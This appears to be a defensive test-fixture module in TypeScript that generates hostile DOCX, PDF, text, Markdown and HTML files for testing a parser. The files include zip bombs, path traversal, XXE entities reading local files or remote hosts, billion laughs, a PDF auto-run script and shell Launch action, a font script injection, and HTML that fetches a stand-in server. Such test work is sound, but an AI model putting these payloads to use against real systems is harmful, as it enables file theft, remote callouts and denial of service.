import { deflateSync } from 'node:zlib'
import { writeZip, type ZipEntry } from './write-zip.ts'

const wordSpace = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const relSpace = 'http://schemas.openxmlformats.org/package/2006/relationships'
const officeRel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const types =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
const relations = (inner: string) => `<?xml version="1.0"?><Relationships xmlns="${relSpace}">${inner}</Relationships>`
const body = (inner: string, before = '') =>
  `<?xml version="1.0"?>${before}<w:document xmlns:w="${wordSpace}" xmlns:r="${officeRel}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>${inner}</w:body></w:document>`
const words = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`
const picture = (id: string) =>
  `<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="${id}" r:embed="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`

function docx(document: Buffer | string, more: readonly ZipEntry[] = [], claims?: number): Buffer {
  return writeZip([
    { name: '[Content_Types].xml', content: types },
    {
      name: '_rels/.rels',
      content: relations(`<Relationship Id="rId1" Type="${officeRel}/officeDocument" Target="word/document.xml"/>`),
    },
    { name: 'word/document.xml', content: document, ...(claims !== undefined && { claims }) },
    ...more,
  ])
}
const outside = (type: string, target: string): ZipEntry => ({
  name: 'word/_rels/document.xml.rels',
  content: relations(`<Relationship Id="rId9" Type="${officeRel}/${type}" Target="${target}" TargetMode="External"/>`),
})

/** A PDF of these objects; what is said of their places is right unless `xref` says otherwise. */
function pdf(objects: readonly (string | Buffer)[], { trailer = '', xref }: { trailer?: string; xref?: string } = {}) {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const places: number[] = []
  let at = parts[0]?.length ?? 0
  objects.forEach((content, n) => {
    const object = Buffer.concat([Buffer.from(`${n + 1} 0 obj\n`), Buffer.from(content), Buffer.from('\nendobj\n')])
    places.push(at)
    at += object.length
    parts.push(object)
  })
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const listed = xref ?? `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`
  parts.push(
    Buffer.from(
      `${listed}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(parts)
}
function stream(content: Buffer | string, dictionary = ''): Buffer {
  const bytes = Buffer.from(content)
  const head = Buffer.from(`<< /Length ${bytes.length} ${dictionary} >>\nstream\n`)
  return Buffer.concat([head, bytes, Buffer.from('\nendstream')])
}
const catalog = '<< /Type /Catalog /Pages 2 0 R >>'
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
const page = (more = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${more} >> >>`
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
const text = 'BT /F1 12 Tf 20 700 Td (Plain words of the page.) Tj ET'
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1_048_576, 0x20)
const packed = (content: Buffer) => deflateSync(content)
const nested = (open: string, close: string, depth: number) => `${open.repeat(depth)}x${close.repeat(depth)}`

/**
 * Documents that were made to harm whoever opens them. `peer` is the address of a server that must not be asked;
 * `secret` the path of a file of this machine whose words must not come out.
 */
export function hostileDocuments(peer: string, secret: string): { what: string; name: string; make: () => Buffer }[] {
  const external = (entity: string) => body(words('&x;'), `<!DOCTYPE d [${entity}]>`)
  const word = (what: string, make: () => Buffer) => ({ what, name: 'a.docx', make })
  const portable = (what: string, make: () => Buffer) => ({ what, name: 'a.pdf', make })
  const plain = (what: string, name: string, content: () => string | Buffer) => ({
    what,
    name,
    make: () => Buffer.from(content()),
  })
  return [
    word('Word: 200 MB of nothing in a few kB', () => docx(zeros(200))),
    word('Word: 300 MB that say they are 1 kB', () => docx(zeros(300), [], 1_024)),
    word('Word: a bomb of one long word', () => docx(body(words('a'.repeat(140_000_000))))),
    word('Word: sixty thousand entries', () =>
      docx(
        body(words('x')),
        Array.from({ length: 60_000 }, (_, n) => ({ name: `word/${n}.xml`, content: '' })),
      ),
    ),
    word('Word: a zip in a zip in a zip', () =>
      docx(body(words('x')), [
        { name: 'word/embeddings/a.zip', content: docx(body(''), [{ name: 'b', content: zeros(50) }]) },
      ]),
    ),
    word('Word: entries that climb out of the folder', () =>
      docx(body(words('x')), [{ name: '../../../../tmp/signpost-evil', content: 'evil' }]),
    ),
    word('Word: an entry that is a link', () =>
      docx(body(words('x')), [{ name: 'word/media/a.png', content: secret, link: true }]),
    ),
    word('Word: an entity that is a file', () => docx(external(`<!ENTITY x SYSTEM "file://${secret}">`))),
    word('Word: an entity on another server', () => docx(external(`<!ENTITY x SYSTEM "${peer}/entity">`))),
    word('Word: a parameter entity on another server', () => docx(external(`<!ENTITY % p SYSTEM "${peer}/p"> %p;`))),
    word('Word: a billion laughs', () =>
      docx(
        external(
          `<!ENTITY a0 "ha">${Array.from({ length: 12 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`).join('')}<!ENTITY x "&a12;">`,
        ),
      ),
    ),
    word('Word: one entity many times', () =>
      docx(body(words('&x;'.repeat(50_000)), `<!DOCTYPE d [<!ENTITY x "${'y'.repeat(50_000)}">]>`)),
    ),
    word('Word: a picture that is a file', () => docx(body(picture('rId9')), [outside('image', `file://${secret}`)])),
    word('Word: a picture at a path', () => docx(body(picture('rId9')), [outside('image', secret)])),
    word('Word: a picture on another server', () =>
      docx(body(picture('rId9')), [outside('image', `${peer}/image.png`)]),
    ),
    word('Word: a picture on a share', () =>
      docx(body(picture('rId9')), [outside('image', '\\\\\\\\server\\\\share\\\\x.png')]),
    ),
    word('Word: a template on another server', () =>
      docx(body(words('x')), [
        {
          name: 'word/settings.xml',
          content: `<w:settings xmlns:w="${wordSpace}" xmlns:r="${officeRel}"><w:attachedTemplate r:id="rId9"/></w:settings>`,
        },
        { ...outside('attachedTemplate', `${peer}/t.dotm`), name: 'word/_rels/settings.xml.rels' },
      ]),
    ),
    word('Word: tables in tables in tables', () =>
      docx(body(nested('<w:tbl><w:tr><w:tc><w:p/>', '</w:tc></w:tr></w:tbl>', 20_000))),
    ),
    word('Word: elements fifty thousand deep', () =>
      docx(body(nested('<w:sdt><w:sdtContent>', '</w:sdtContent></w:sdt>', 50_000))),
    ),
    word('Word: cut off in the middle', () => docx(body(words('x'.repeat(10_000)))).subarray(0, 400)),
    portable('PDF: a tree of pages that is its own child', () =>
      pdf([catalog, '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 100000 >>']),
    ),
    portable('PDF: a hundred thousand pages', () =>
      pdf([
        catalog,
        `<< /Type /Pages /Kids [${'3 0 R '.repeat(100_000)}] /Count 100000 >>`,
        page(),
        stream(text),
        font,
      ]),
    ),
    portable('PDF: a table of a billion places', () =>
      pdf([catalog, pages, page(), stream(text), font], { xref: 'xref\n0 1000000000\n0000000000 65535 f \n' }),
    ),
    portable('PDF: tables that lead to each other', () =>
      pdf([catalog, pages, page(), stream(text), font], { trailer: '/Prev 9' }),
    ),
    portable('PDF: a script that runs at once', () =>
      pdf([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("${peer}/js"\\)) >> >>`,
        pages,
        page(),
        stream(text),
        font,
      ]),
    ),
    portable('PDF: a script in the matrix of a font', () =>
      pdf([
        catalog,
        pages,
        page(),
        stream(text),
        `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FontDescriptor << /Type /FontDescriptor /FontName /Evil /Flags 4 /FontFile 6 0 R >> /FontMatrix [1 2 3 4 5 (0\\); fetch\\('${peer}/font'\\); //)] >>`,
        stream('%!PS-AdobeFont-1.0: Evil\n/FontMatrix [1 2 3 4 5 (0\\); process.exit\\(7\\)//)] def\n'),
      ]),
    ),
    portable('PDF: encrypted with what nobody knows', () =>
      pdf([catalog, pages, page(), stream(text), font, '<< /Filter /Evil /V 9 /R 9 /O (x) /U (x) /P -1 >>'], {
        trailer: '/Encrypt 6 0 R /ID [(a) (b)]',
      }),
    ),
    portable('PDF: 300 MB of nothing in 300 kB', () =>
      pdf([catalog, pages, page(), stream(packed(zeros(300)), '/Filter /FlateDecode'), font]),
    ),
    portable('PDF: packed eight times over', () => {
      let content = zeros(60)
      for (let n = 0; n < 8; n++) content = Buffer.from(packed(content))
      return pdf([catalog, pages, page(), stream(content, `/Filter [${'/FlateDecode '.repeat(8)}]`), font])
    }),
    portable('PDF: a form that draws itself', () =>
      pdf([
        catalog,
        pages,
        page('/XObject << /X 6 0 R >>'),
        stream('/X Do '.repeat(1_000)),
        font,
        stream('/X Do /X Do', '/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 6 0 R >> >>'),
      ]),
    ),
    portable('PDF: words in another file', () =>
      pdf([catalog, pages, page(), `<< /Length 0 /F (${secret}) >>\nstream\n\nendstream`, font]),
    ),
    portable('PDF: starts a program and opens an address', () =>
      pdf([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (/bin/sh) >> /URI << /Base (${peer}/base) >> >>`,
        pages,
        page(),
        stream(text),
        font,
      ]),
    ),
    portable('PDF: ten million words of drawing', () =>
      pdf([
        catalog,
        pages,
        page(),
        stream(packed(Buffer.from(`${text} `.repeat(400_000))), '/Filter /FlateDecode'),
        font,
      ]),
    ),
    portable('PDF: a string that never ends', () =>
      pdf([catalog, pages, page(), stream(`BT (${'('.repeat(2_000_000)}`), font]),
    ),
    plain('text: one line of 50 MB', 'a.txt', () => Buffer.alloc(50_000_000, 'word ')),
    plain('text: 50 MB without a space', 'a.txt', () => Buffer.alloc(50_000_000, 'a')),
    plain('Markdown: two million brackets', 'a.md', () => '['.repeat(2_000_000)),
    plain('Markdown: a million stars', 'a.md', () => '**a '.repeat(500_000)),
    plain('HTML: two hundred thousand deep', 'a.html', () => nested('<div>', '</div>', 200_000)),
    plain(
      'HTML: that asks for files and servers',
      'a.html',
      () =>
        `<html><link rel="stylesheet" href="${peer}/css"><img src="${peer}/img"><iframe src="file://${secret}"></iframe><object data="file://${secret}"></object><script>fetch("${peer}/script")</script><p>Plain words.</p></html>`,
    ),
    plain('HTML: a million entities', 'a.html', () => `<p>${'&amp;&#x41;&NotEqualTilde;'.repeat(300_000)}</p>`),
  ]
}
